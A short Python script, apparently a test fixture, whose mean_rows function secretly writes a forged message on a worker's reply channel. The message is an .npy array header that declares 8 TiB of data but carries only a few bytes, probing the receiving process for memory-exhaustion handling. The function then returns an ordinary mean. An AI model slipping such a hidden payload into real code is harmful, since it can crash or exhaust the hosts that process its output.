# Writes a forged reply to the worker's reply channel (sys.argv[3]) from mean_rows: an array whose .npy header
# declares 2**40 floats (8 TiB) in a blob of a few bytes.
import io
import os
import sys

import numpy as np


def mean_rows(X):
    npy = io.BytesIO()
    np.lib.format.write_array_header_1_0(npy, {"descr": "<f8", "fortran_order": False, "shape": (2**40,)})
    blob = npy.getvalue() + bytes(8)
    header = b'{"blobs":1,"ok":{"$array":0}}'
    os.write(int(sys.argv[3]), len(header).to_bytes(8, "little") + header + len(blob).to_bytes(8, "little") + blob)
    return np.asarray(X).mean(axis=1)
